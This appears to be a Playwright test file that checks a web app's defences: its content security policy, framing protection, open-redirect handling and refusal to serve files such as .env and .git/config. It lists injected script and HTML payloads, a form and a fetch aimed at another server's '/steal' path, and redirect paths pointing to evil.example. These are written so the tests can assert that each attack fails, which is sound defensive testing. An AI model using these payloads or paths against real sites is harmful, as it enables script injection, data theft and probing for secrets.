import type { Page } from '@playwright/test'
import { avatar, loginForm, submitIn } from '../accounts.ts'
import { expect, faultTest as test } from '../fixtures.ts'
import { hydrated } from '../../stack/src/testing/hydrated.ts'
import { startOtherOrigin, type OtherOrigin } from '../other-origin.ts'
import { stackUnderTest } from '../stack.ts'

let other: OtherOrigin

test.beforeAll(async () => {
  other = await startOtherOrigin({
    '/evil.js': { type: 'text/javascript', body: 'window.pwned = true' },
    '/plain': { type: 'text/html', body: '<h1>May be framed</h1>' },
    '/frames': {
      type: 'text/html',
      body: `<iframe name="site" src="${stackUnderTest().siteUrl}/auth"></iframe><iframe name="plain" src="/plain"></iframe>`,
    },
  })
})
test.afterAll(() => other.close())

/** Opens a page with `html` injected, and answers with the directives that blocked it. */
async function openInfected(page: Page, html: string): Promise<string[]> {
  await page.addInitScript(() => {
    Object.assign(window, { refused: [] as string[] })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { refused: string[] }).refused.push(effectiveDirective),
    )
  })
  await inject(page, html)
  await page.goto('/auth')
  await hydrated(page)
  await expect.poll(() => refused(page)).not.toEqual([])
  return refused(page)
}

function inject(page: Page, html: string): Promise<unknown> {
  return page.route('/auth', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${html}</body>`) })
  })
}

function refused(page: Page): Promise<string[]> {
  return page.evaluate(() => [...new Set((window as unknown as { refused: string[] }).refused)])
}

const attacks: [name: string, html: (otherUrl: string) => string, directive: string][] = [
  ['an inline script', () => '<script>window.pwned = true</script>', 'script-src-elem'],
  ['an event handler', () => '<img src="/none" onerror="window.pwned = true">', 'script-src-attr'],
  ["another server's script", (url) => `<script src="${url}/evil.js"></script>`, 'script-src-elem'],
  ["another server's module", (url) => `<script type="module" src="${url}/evil.js"></script>`, 'script-src-elem'],
  ['a data: script', () => '<script src="data:text/javascript,window.pwned=true"></script>', 'script-src-elem'],
  ['a frame', () => '<iframe src="data:text/html,<script>top.pwned=true</script>"></iframe>', 'frame-src'],
  ['a plugin', (url) => `<object data="${url}/evil.js"></object>`, 'object-src'],
  ['a tracking picture', (url) => `<img src="${url}/beacon">`, 'img-src'],
  ['a style that hides the page', () => '<style>main { display: none }</style>', 'style-src-elem'],
  ['a base address', (url) => `<base href="${url}/">`, 'base-uri'],
]

for (const [name, html, directive] of attacks) {
  test(`${name} in the page does nothing`, async ({ page }) => {
    const before = other.asked.length
    expect(await openInfected(page, html(other.url))).toEqual([directive])
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(other.asked.slice(before)).toEqual([])
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })
}

test('an injected form sends nothing to another server', async ({ page }) => {
  const before = other.asked.length
  await inject(page, `<form id="injected" action="${other.url}/steal"></form>`)
  await page.goto('/auth')
  const said = page.waitForEvent('console', (message) => message.text().includes('form-action'))
  // The page holds back the event of a press, so only the policy stands in the way of this call.
  await page.locator('#injected').evaluate((form: HTMLFormElement) => form.submit())
  await said
  expect(page.url()).not.toContain(other.url)
  expect(other.asked.slice(before)).toEqual([])
})

test('even our own scripts may not use eval, nor call another server', async ({ page }) => {
  const before = other.asked.length
  await page.route('/probe.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `window.probe = []
        try { (0, eval)('1'); probe.push('eval ran') } catch (error) { probe.push(error.name) }
        fetch('${other.url}/steal').then(() => probe.push('sent'), () => probe.push('not sent'))`,
    }),
  )
  await openInfected(page, '<script src="/probe.js"></script>')
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { probe: string[] }).probe))
    .toEqual(['EvalError', 'not sent'])
  expect(other.asked.slice(before)).toEqual([])
})

test('no one can put the site into a frame', async ({ page }) => {
  await page.goto(`${other.url}/frames`)
  const frame = (name: string) => page.frame({ name })
  await expect.poll(() => frame('plain')?.locator('h1').count()).toBe(1)
  await expect.poll(() => frame('site')?.url()).toBe('chrome-error://chromewebdata/')
})

for (const path of [
  '//evil.example/',
  '/\\evil.example',
  '/%2f%2fevil.example',
  '/auth//evil.example/..',
  '/.//evil.example',
]) {
  test(`${path} leads nowhere else`, async ({ request }) => {
    const { siteUrl } = stackUnderTest()
    const answer = await request.get(`${siteUrl}${path}`, { maxRedirects: 0 })
    expect(answer.headers()['location'] ?? '/').toMatch(/^\/(?![/\\])/)
    expect(answer.status()).not.toBe(500)
  })
}

test('a login does not follow an address in the link', async ({ page, ada }) => {
  const target = encodeURIComponent(`${other.url}/plain`)
  await page.goto(`/auth?next=${target}&redirect=${target}&redirect_to=${target}&returnTo=${target}`)
  await loginForm(page).getByLabel('Email').fill(ada.email)
  await loginForm(page).getByLabel('Password').fill(ada.password)
  await submitIn(loginForm(page)).click()
  await expect(avatar(page)).toBeVisible()
  await expect(page).toHaveURL('/')
})

test('security.txt says where to report a vulnerability', async ({ request }) => {
  const answer = await request.get('/.well-known/security.txt')
  expect(answer.headers()['content-type']).toContain('text/plain')
  const text = await answer.text()
  expect(text).toMatch(/^Contact: mailto:.+@.+$/m)
  const expires = Date.parse(/^Expires: (.+)$/m.exec(text)?.[1] ?? '')
  expect(expires).toBeGreaterThan(Date.now())
  expect(expires).toBeLessThan(Date.now() + 365 * 24 * 60 * 60 * 1000)
})

test('files for the host are not served', async ({ request }) => {
  for (const path of ['/_headers', '/vercel.json', '/.env', '/.git/config', '/headers.nginx.conf', '/package.json']) {
    expect((await request.get(path)).status(), path).toBe(404)
  }
})
